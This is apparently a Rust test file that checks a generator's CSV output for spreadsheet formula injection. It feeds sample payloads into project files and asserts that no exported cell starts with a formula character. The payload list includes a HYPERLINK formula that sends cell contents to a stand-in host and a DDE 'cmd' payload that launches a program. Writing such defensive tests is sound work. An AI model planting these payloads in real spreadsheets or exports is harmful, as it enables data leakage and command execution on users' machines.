//! Row X01: cells that a spreadsheet would evaluate as formulas.

use crate::program::build_well;
use crate::project::Project;
use crate::tree::tree;

const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"https://other.test/?\"&A1,\"click\")",
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝2+2",
];

#[test]
fn x01_no_cell_of_a_table_is_a_formula() {
    let project = Project::small();
    for (at, formula) in FORMULAS.iter().enumerate() {
        let text = serde_json::to_string(formula).unwrap();
        let slug = format!("states/place-{at}");
        project.write(
            &format!("{slug}/profile.md"),
            format!("+++\nname = {text}\n+++\n"),
        );
        project.write(
            &format!("{slug}/2024.toml"),
            format!(
                "rubric = \"2\"\nbasis = \"desk-review\"\nassessed_on = 2024-05-01\nassessed_by = {text}\n\n\
                 [1A]\nrating = 2\nevidence = {text}\n\
                 sources = [{{ title = {text}, publisher = {text}, url = \"https://example.org/\" }}]\n"
            ),
        );
    }
    let title = serde_json::to_string(FORMULAS[0]).unwrap();
    project.replace(
        "rubric/elements/1.toml",
        "title = \"Soil\"",
        &format!("title = {title}"),
    );
    project.replace(
        "rubric/rubric.toml",
        "name = \"Middle\"",
        "name = \"-Middle\"",
    );
    build_well(&project);
    let mut neutral = 0;
    let mut files = 0;
    for (path, bytes) in tree(&project.out()) {
        if !path.ends_with(".csv") {
            continue;
        }
        files += 1;
        let bytes = bytes.unwrap();
        let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(&bytes);
        let mut rows = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes);
        for row in rows.records() {
            for cell in row.unwrap().iter() {
                let is_number = cell.parse::<f64>().is_ok();
                let first = cell.chars().next().unwrap_or(' ');
                let starts = matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r' | '＝');
                assert!(is_number || !starts, "{path}: {cell:?}");
                neutral += u32::from(cell.starts_with("'="));
            }
        }
    }
    assert!(
        files >= 10 && neutral >= 10,
        "{files} files, {neutral} cells"
    );
}
